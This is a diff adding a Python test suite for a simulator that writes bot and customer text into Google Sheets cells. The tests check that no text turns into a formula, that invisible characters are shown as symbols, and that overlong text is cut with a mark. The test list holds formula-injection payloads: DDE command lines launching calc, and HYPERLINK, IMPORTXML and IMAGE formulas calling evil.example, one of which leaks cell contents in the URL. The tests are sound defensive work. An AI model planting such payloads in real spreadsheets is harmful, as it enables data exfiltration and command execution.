@@ -1,0 +1,106 @@
+"""Texts of bots and customers in cells: never a formula, nothing invisible, nothing lost without a mark."""
+
+from collections.abc import Iterator
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from simulator.reports.sheets import pull, target
+from simulator.reports.sheets.cells import LONGEST, printable, units
+from tests.pushing import KEY, cell, one_cell, patient, pushed, sheets_server
+from tests.servers.sheets import SheetsServer
+
+TECHNICAL = "技術情報"
+FORMULAS = (
+    "=1+1", "=HYPERLINK(\"https://evil.example\",\"見る\")", "=IMPORTXML(\"https://evil.example\",\"//a\")",
+    "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
+    "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''", "001", "1e5", "2026/11/21", "TRUE", "50%", " =1+1",
+    '";=1+1', "=IMAGE(\"https://evil.example/?\"&A1)", "{=1+1}", "#REF!", "http://evil.example",
+)  # fmt: skip
+
+
+@pytest.fixture
+def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[SheetsServer]:
+    with sheets_server(monkeypatch) as running:
+        yield running
+
+
+def written(server: SheetsServer, text: str) -> str:
+    """What stands in the cell after the text was pushed; it is always text."""
+    pushed(one_cell(text))
+    value = cell(server, "B2", TECHNICAL).get("userEnteredValue", {"stringValue": ""})
+    assert list(value) == ["stringValue"]
+    return str(value["stringValue"])
+
+
+def test_nothing_becomes_a_formula(server: SheetsServer) -> None:
+    """Neither when a row is made nor when its cell is written over; the text stays what it was."""
+    for text in FORMULAS:
+        for sheet in server.book(KEY).sheets[1:]:
+            server.person(KEY).delete_sheet(sheet.title)
+        shown = text.replace("\r", "␍")
+        assert written(server, text) == shown
+        assert written(server, "anything") == "anything"
+        assert written(server, text) == shown
+        assert pushed(one_cell(text)).writes == 0
+
+
+def test_notes_are_text_too(server: SheetsServer) -> None:
+    """Made printable like the cells."""
+    pushed(one_cell("x", note="=1+1\x00\ud800"))
+
+    assert cell(server, "B2", TECHNICAL)["note"] == "=1+1␀�"
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("a\x00b\x07c\x1bd\x7fe\x85f", "a␀b␇c␛d␡e�f"),
+        ("一行\r\n二行\n三行\tタブ", "一行\n二行\n三行\tタブ"),
+        ("\ud83d\ude00 \ud83d だけ", "😀 � だけ"),
+        ("👩‍👩‍👧‍👦🇯🇵が゙", "👩‍👩‍👧‍👦🇯🇵が゙"),
+        ("שלום \u202eabc\u202c مرحبا", "שלום \u202eabc\u202c مرحبا"),
+        ("<b>&amp;</b>", "<b>&amp;</b>"),
+        ("髙﨑 𠮷野家", "髙﨑 𠮷野家"),
+    ],
+)
+def test_what_cannot_be_seen_is_shown(server: SheetsServer, text: str, shown: str) -> None:
+    """Control characters have pictures; all that people write in survives."""
+    assert written(server, text) == shown
+    assert pushed(one_cell(text)).writes == 0
+
+
+@pytest.mark.parametrize("language", ["ja", "en"])
+@pytest.mark.parametrize("piece", ["あ", "😀", "👩‍👧", "か\u3099"])
+def test_too_long_a_text_is_cut_with_a_mark(server: SheetsServer, piece: str, language: str) -> None:
+    """At Google's limit, between whole characters, and the mark says how much is missing."""
+    text = piece * 60_000
+    pushed(one_cell(text), language=language)
+    shown = cell(server, "B2", TECHNICAL)["userEnteredValue"]["stringValue"]
+    kept, mark = shown.rsplit("…", 1)
+
+    assert LONGEST - 20 <= units(shown) <= LONGEST
+    assert mark.endswith("文字省略）" if language == "ja" else "more characters)")
+    assert f"{len(text) - len(kept.rstrip()):,}" in mark
+    assert kept.rstrip().endswith(piece)
+    assert pushed(one_cell(text), language=language).writes == 0
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(st.characters(codec=None, categories=None), max_size=40))
+def test_any_text_can_be_sent(text: str) -> None:
+    """Made printable it is UTF-8, and making it printable again changes nothing."""
+    shown = printable(text, "ja")
+
+    assert shown.encode().decode() == printable(shown, "ja")
+
+
+@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.text(max_size=30))
+def test_any_text_comes_back(server: SheetsServer, text: str) -> None:
+    """Pushed and pulled it is the same, but for blanks around it."""
+    pushed(one_cell(text))
+    rows = pull(target(KEY), ["technical"], door=patient()).rows["technical"]
+
+    assert rows[0].cells.get("value", "") == printable(text, "ja").strip()
